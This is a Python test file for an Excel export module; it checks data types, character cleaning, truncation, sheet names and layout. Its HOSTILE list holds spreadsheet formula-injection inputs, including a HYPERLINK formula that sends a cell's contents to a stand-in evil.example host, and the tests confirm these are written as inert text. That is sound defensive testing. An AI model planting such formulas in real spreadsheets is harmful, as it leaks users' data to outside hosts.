"""Tables as Excel files: what goes in comes out, and nothing else."""

import io
import re
import zipfile
from datetime import UTC, date, datetime

import pytest
from python_calamine import CalamineWorkbook

from pipeline.answers import workbook as books
from pipeline.answers.office_text import EXCEL_CELL, cut, office_text, units
from pipeline.answers.workbook import Cell, Table, workbook

HOSTILE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "http://evil.example/",
    "mailto:a@evil.example",
    "internal:Sheet2!A1",
    "external:c:\\evil.xlsx",
    "{=1+1}",
    "_x0041_",
    "&amp; <b>",
    "00123",
    "1e5",
    " 前後の空白 ",
]


def read(data: bytes) -> dict[str, list[list[object]]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return {
        name: [list(row) for row in book.get_sheet_by_name(name).to_python()]
        for name in book.sheet_names
    }


def parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        return {name: file.read(name).decode() for name in file.namelist()}


def of(rows: list[list[Cell]], heads: tuple[str, ...] = ("見出し",)) -> bytes:
    return workbook([Table("表", heads, rows)])


def test_texts_numbers_and_dates_come_back_as_what_they_are() -> None:
    rows: list[list[Cell]] = [
        ["観光入込客数", 62, 0.5, True, date(2026, 3, 31), datetime(2026, 3, 31, 1, 2, 3), None],
        ["", -1, 1e300, False, date(1900, 1, 1), datetime(2026, 1, 1, 9, tzinfo=UTC), "2019-12"],
    ]
    found = read(of(rows, tuple("abcdefg")))["表"]
    assert found[0] == list("abcdefg")
    assert found[1] == [
        "観光入込客数",
        62.0,
        0.5,
        True,
        date(2026, 3, 31),
        datetime(2026, 3, 31, 1, 2, 3),
        "",
    ]
    # what Excel's calendar does not have, and a month, stay the texts they are
    assert found[2][3:] == [False, "1900-01-01", datetime(2026, 1, 1, 9), "2019-12"]


def test_no_text_becomes_a_formula_a_link_or_a_number() -> None:
    data = of([[text] for text in HOSTILE])
    assert [row[0] for row in read(data)["表"][1:]] == HOSTILE
    sheet = parts(data)["xl/worksheets/sheet1.xml"]
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    assert not [name for name in parts(data) if name.startswith("xl/worksheets/_rels")]
    assert len(re.findall(r'<c [^>]*t="s"', sheet)) == len(HOSTILE) + 1


def test_what_xml_refuses_is_dropped_and_marks_of_direction_too() -> None:
    text = "新\x00\x0b\x1f\ud800\ufffe規\u202e\u2066\r\n二行目\t🏯"
    assert office_text(text) == "新\ufffd規\n二行目\t🏯"
    assert read(of([[text]]))["表"][1] == ["新\ufffd規\n二行目\t🏯"]


@pytest.mark.parametrize("character", ["あ", "🏯"])
def test_a_long_text_is_cut_where_excel_would_refuse_it_and_says_so(character: str) -> None:
    text = character * 40_000
    kept = cut(text)
    assert EXCEL_CELL - 2 <= units(kept) <= EXCEL_CELL
    assert kept.endswith("…（全40000字。以下略）")
    assert read(of([[text]]))["表"][1] == [kept]
    whole = "あ" * EXCEL_CELL
    assert cut(whole) == whole


def test_whole_numbers_that_excel_would_round_and_no_numbers_are_texts() -> None:
    rows: list[list[Cell]] = [[2**53], [2**53 + 1], [float("nan")], [float("-inf")], [10**400]]
    found = [row[0] for row in read(of(rows))["表"][1:]]
    assert found[:4] == [2.0**53, "9007199254740993", "nan", "-inf"]
    assert found[4] == "1" + "0" * 400


def test_the_same_rows_give_the_same_bytes() -> None:
    rows: list[list[Cell]] = [["あ", 1, date(2026, 1, 1)]]
    assert of(rows) == of(rows)
    assert "1980-01-01" in parts(of(rows))["docProps/core.xml"]


def test_names_of_sheets_are_what_excel_takes_and_none_stands_twice() -> None:
    names = ["変更/一覧", "変更/一覧", "a" * 40, "A" * 40, "History", "", "'x'", "\x00"]
    found = list(read(workbook([Table(name, ("a",), [["b"]]) for name in names])))
    assert len({name.casefold() for name in found}) == len(names)
    assert all(0 < len(name) <= 31 and not re.search(r"[\[\]:*?/\\']", name) for name in found)
    assert found[:2] == ["変更／一覧", "変更／一覧 (2)"]


def test_the_head_row_is_frozen_below_title_and_notes_and_repeated_in_print() -> None:
    data = workbook(
        [
            Table(
                "指標", ("指標", "目標値"), [["人口", 10]], title="指標の一覧", notes=["2026-03-31"]
            )
        ],
        title="指標",
    )
    assert [row[0] for row in read(data)["指標"]] == ["指標の一覧", "2026-03-31", "指標", "人口"]
    xml = parts(data)
    assert 'topLeftCell="A4"' in xml["xl/worksheets/sheet1.xml"]
    assert "$3:$3" in xml["xl/workbook.xml"]
    assert 'val="Yu Gothic"' in xml["xl/styles.xml"]
    assert "<dc:title>指標</dc:title>" in xml["docProps/core.xml"]


def test_columns_are_as_wide_as_what_stands_in_them_within_bounds() -> None:
    data = of([["あ" * 10, "x", "あ" * 500]], ("a", "b", "c"))
    found = parts(data)["xl/worksheets/sheet1.xml"]
    widths = [float(width) for width in re.findall(r'<col [^>]*width="([\d.]+)"', found)]
    assert 21 < widths[0] < 24
    assert widths[1] < 8
    assert 60 < widths[2] < 62


def test_more_rows_than_a_sheet_takes_are_told(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(books, "MOST_ROWS", 3)
    found = read(of([[number] for number in range(10)]))["表"]
    assert [row[0] for row in found] == [
        "見出し",
        0.0,
        1.0,
        2.0,
        "ほかに7行あります（この表には3行まで）",
    ]


def test_no_sheet_and_no_rows_still_make_a_file() -> None:
    assert read(workbook([])) == {"Sheet": []}
    assert read(of([])) == {"表": [["見出し"]]}
